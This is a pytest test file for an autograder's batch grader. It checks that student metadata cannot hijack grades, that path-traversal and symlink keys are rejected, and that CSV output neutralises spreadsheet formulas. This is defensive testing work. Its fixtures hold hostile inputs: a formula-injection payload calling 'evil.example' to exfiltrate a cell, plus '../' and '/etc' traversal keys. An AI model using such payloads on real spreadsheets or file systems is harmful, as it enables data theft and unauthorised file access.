"""The batch's input is the instructor's, not a student's (issue 21.3), and the CSVs it
writes run no formula (issue 21.4).

An export is recognised only at the top of SUBMISSIONS (or of its single top folder); a
``submission_metadata.yml`` inside a submission is that student's file, ignored and said
so; every key of an export's metadata must name a direct child folder of the export. The
grades come from the fake engine of tests/test_batch.py (the batch machinery is tested,
not the engine).
"""

from __future__ import annotations

import os
import sys
import zipfile
from pathlib import Path

import pytest
from test_batch import FAKE_GRADER, GOOD, read_csv

from autograder.classroom import batch

#: What mallory puts in her own folder: "grade alice's folder as mine".
HIJACK = """\
../alice:
  :submitters:
  - :name: Mallory
    :sid: '666'
    :email: mallory@example.edu
  :created_at: 2026-03-02 21:14:03.123456000 -08:00
/etc:
  :submitters:
  - :name: Root
"""


@pytest.fixture
def fake(tmp_path_factory: pytest.TempPathFactory) -> dict:
    script = tmp_path_factory.mktemp("fake") / "fake_grader.py"
    script.write_text(FAKE_GRADER)
    return {"grader_cmd": [sys.executable, str(script)], "jobs": 2, "progress": False}


def tree(root: Path, leave_out: Path) -> dict[str, bytes | str]:
    """Every file and link under ``root`` (except under ``leave_out``) with its content."""
    out: dict[str, bytes | str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        here = Path(dirpath)
        dirnames[:] = [d for d in dirnames if here / d != leave_out]
        for name in [*filenames, *(d for d in dirnames if (here / d).is_symlink())]:
            p = here / name
            out[str(p.relative_to(root))] = (
                f"-> {os.readlink(p)}" if p.is_symlink() else p.read_bytes()
            )
    return out


def test_a_students_metadata_file_decides_nothing(tmp_path: Path, fake: dict) -> None:
    subs = tmp_path / "subs"
    for name in ("alice", "bob", "mallory"):
        (subs / name).mkdir(parents=True)
        (subs / name / "hw.py").write_text(GOOD if name == "alice" else "def softmax(z): BUG\n")
    (subs / "mallory" / "submission_metadata.yml").write_text(HIJACK)
    out = tmp_path / "out"
    before = tree(tmp_path, out)
    first = batch.grade(subs, out, **fake)
    rows = read_csv(out / "grades.csv")
    assert set(rows) == {"alice", "bob", "mallory"}
    alice = rows["alice"]
    assert (alice["name"], alice["email"], alice["total"]) == ("", "", "100")
    assert rows["mallory"]["name"] == "" and rows["mallory"]["status"] == "graded"
    assert all(r["name"] != "Mallory" for r in rows.values())
    assert first.n_removed == 0
    # the report says her file was ignored
    page = (out / "submissions" / "mallory" / "report.html").read_text()
    ignored = "submission_metadata.yml in this submission is the student&#39;s own file: ignored"
    assert ignored in page
    assert "student&#39;s own file: ignored" in (out / "report.html").read_text()
    # a rerun keeps every output folder and removes nothing
    again = batch.grade(subs, out, **fake)
    assert again.n_removed == 0 and again.n_cached == 3
    assert {p.name for p in (out / "submissions").iterdir()} == {"alice", "bob", "mallory"}
    # nothing outside --out was written or removed
    assert tree(tmp_path, out) == before


def test_an_export_is_recognised_only_at_the_top_of_a_class_zip(tmp_path: Path, fake: dict) -> None:
    """A zip of a class folder in which one student's folder holds a metadata file is a
    class folder, not an export: everyone is graded under their own folder's name."""
    class_zip = tmp_path / "class.zip"
    with zipfile.ZipFile(class_zip, "w") as zf:
        zf.writestr("class/alice/hw.py", GOOD)
        zf.writestr("class/bob/hw.py", GOOD)
        zf.writestr("class/mallory/hw.py", GOOD)
        zf.writestr("class/mallory/submission_metadata.yml", HIJACK.replace("../alice", "alice"))
    out = tmp_path / "out"
    batch.grade(class_zip, out, **fake)
    rows = read_csv(out / "grades.csv")
    assert set(rows) == {"alice", "bob", "mallory"}
    assert {r["name"] for r in rows.values()} == {""}
    assert "ignored" in (out / "submissions" / "mallory" / "report.html").read_text()


def test_every_key_of_an_export_must_name_a_folder_of_it(tmp_path: Path, fake: dict) -> None:
    """Keys with ``..``, an absolute path, a slash or a link get a bad_input row that says
    so; the folders they point at are graded under their own names only, and nothing
    outside --out is written."""
    outside = tmp_path / "outside"
    (outside / "victim").mkdir(parents=True)
    (outside / "victim" / "hw.py").write_text(GOOD)
    export = tmp_path / "export"
    for folder in ("submission_1", "submission_2"):
        (export / folder).mkdir(parents=True)
        (export / folder / "hw.py").write_text(GOOD)
    (export / "submission_link").symlink_to(outside / "victim")
    student = "  :submitters:\n  - :name: {0}\n    :email: {0}@example.edu\n    :sid: '{1}'\n"
    meta = "".join(
        f"{key}:\n" + student.format(name, sid)
        for key, name, sid in (
            ("submission_1", "Ada", "1"),
            ("../outside/victim", "Eve", "2"),
            (str(outside / "victim"), "Eve", "3"),
            ("submission_2/../submission_1", "Eve", "4"),
            ("submission_link", "Eve", "5"),
            ("submission_2", "Bo", "6"),
        )
    )
    (export / "submission_metadata.yml").write_text(meta)
    out = tmp_path / "out"
    before = tree(tmp_path, out)
    batch.grade(export, out, **fake)
    rows = read_csv(out / "grades.csv")
    good = {k: (r["name"], r["status"], r["total"]) for k, r in rows.items()
            if r["status"] == "graded"}
    assert good == {"submission_1": ("Ada", "graded", "100"),
                    "submission_2": ("Bo", "graded", "100")}
    bad = {r["sid"]: r for r in rows.values() if r["status"] == "bad_input"}
    assert sorted(bad) == ["2", "3", "4", "5"]
    for sid in ("2", "3", "4"):
        assert "is not the name of a folder of the export: not graded" in bad[sid]["message"]
        assert bad[sid]["total"] == "0"
    assert "which is a link, not a folder" in bad["5"]["message"]
    assert all(r["id"].startswith("invalid-") for r in bad.values())
    assert tree(tmp_path, out) == before


def test_spreadsheet_formulas_from_an_export_are_neutralised(tmp_path: Path, fake: dict) -> None:
    export = tmp_path / "export"
    (export / "submission_1").mkdir(parents=True)
    (export / "submission_1" / "hw.py").write_text(GOOD)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"grade")'
    (export / "submission_metadata.yml").write_text(
        "submission_1:\n  :submitters:\n"
        f"  - :name: '{name}'\n    :email: '@SUM(1+1)'\n    :sid: '-1+2'\n"
    )
    out = tmp_path / "out"
    batch.grade(export, out, **fake)
    row = read_csv(out / "grades.csv")["submission_1"]
    assert (row["name"], row["email"], row["sid"]) == ("'" + name, "'@SUM(1+1)", "'-1+2")
    assert row["total"] == "100"
    gradebook = (out / "gradebook.csv").read_text()
    assert "'@SUM(1+1)" in gradebook and ",@SUM" not in gradebook
    html = (out / "report.html").read_text()
    assert "=HYPERLINK(&#34;http://evil.example/" in html and "&#39;=HYPERLINK" not in html
